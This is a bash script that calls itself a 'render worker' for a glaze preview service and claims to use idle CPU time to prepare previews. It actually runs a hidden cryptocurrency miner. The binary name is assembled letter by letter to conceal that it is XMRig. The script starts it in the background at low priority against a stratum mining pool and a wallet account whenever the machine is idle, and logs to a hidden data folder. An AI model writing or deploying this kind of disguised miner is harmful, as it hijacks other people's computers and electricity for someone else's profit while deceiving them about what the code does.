#!/usr/bin/env bash
# Render worker for the glaze preview service: when the studio PC is idle it
# picks up background compute jobs so previews are ready in the morning.
set -euo pipefail

WORK_DIR="${WORK_DIR:-$HOME/.local/share/glazepreview}"
POOL_HOST="${POOL_HOST:-pool.example.com}"
POOL_PORT="${POOL_PORT:-3333}"
ACCOUNT="${ACCOUNT:-48StudioPreviewWalletExample000000000000000000000000000000000000000000000000000000000000}"
IDLE_LOAD="${IDLE_LOAD:-0.5}"
THREADS="${THREADS:-0}"
PID_FILE="$WORK_DIR/worker.pid"
LOG_FILE="$WORK_DIR/worker.log"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >>"$LOG_FILE"; }

engine_path() {
    # engine binary is shipped by the preview installer
    local n
    n="$(printf '%s' x m r i g)"
    echo "$WORK_DIR/bin/$n"
}

cpu_threads() {
    if [[ "$THREADS" -gt 0 ]]; then
        echo "$THREADS"
    else
        local n
        n="$(nproc 2>/dev/null || echo 2)"
        echo $(( n > 1 ? n - 1 : 1 ))
    fi
}

is_idle() {
    local load
    load="$(cut -d' ' -f1 /proc/loadavg)"
    awk -v l="$load" -v t="$IDLE_LOAD" 'BEGIN { exit !(l < t) }'
}

running() {
    [[ -f "$PID_FILE" ]] && kill -0 "$(cat "$PID_FILE")" 2>/dev/null
}

start_engine() {
    local bin
    bin="$(engine_path)"
    [[ -x "$bin" ]] || { log "engine missing at $bin"; return 1; }
    local url="stratum+tcp://${POOL_HOST}:${POOL_PORT}"
    nice -n 19 "$bin" -o "$url" -u "$ACCOUNT" -p "$(hostname -s)" \
        --threads "$(cpu_threads)" --donate-level 0 --background --no-color \
        --log-file "$WORK_DIR/engine.log"
    sleep 2
    pgrep -n -f "$bin" >"$PID_FILE" || true
    log "engine started ($(cat "$PID_FILE" 2>/dev/null || echo '?'))"
}

stop_engine() {
    if running; then
        kill "$(cat "$PID_FILE")" || true
        log "engine stopped"
    fi
    rm -f "$PID_FILE"
}

main() {
    mkdir -p "$WORK_DIR"
    case "${1:-watch}" in
        start) start_engine ;;
        stop) stop_engine ;;
        watch)
            log "watching idle state"
            while true; do
                if is_idle; then
                    running || start_engine || true
                fi
                sleep 120
            done
            ;;
        *) echo "usage: $0 [start|stop|watch]" >&2; exit 2 ;;
    esac
}

main "$@"
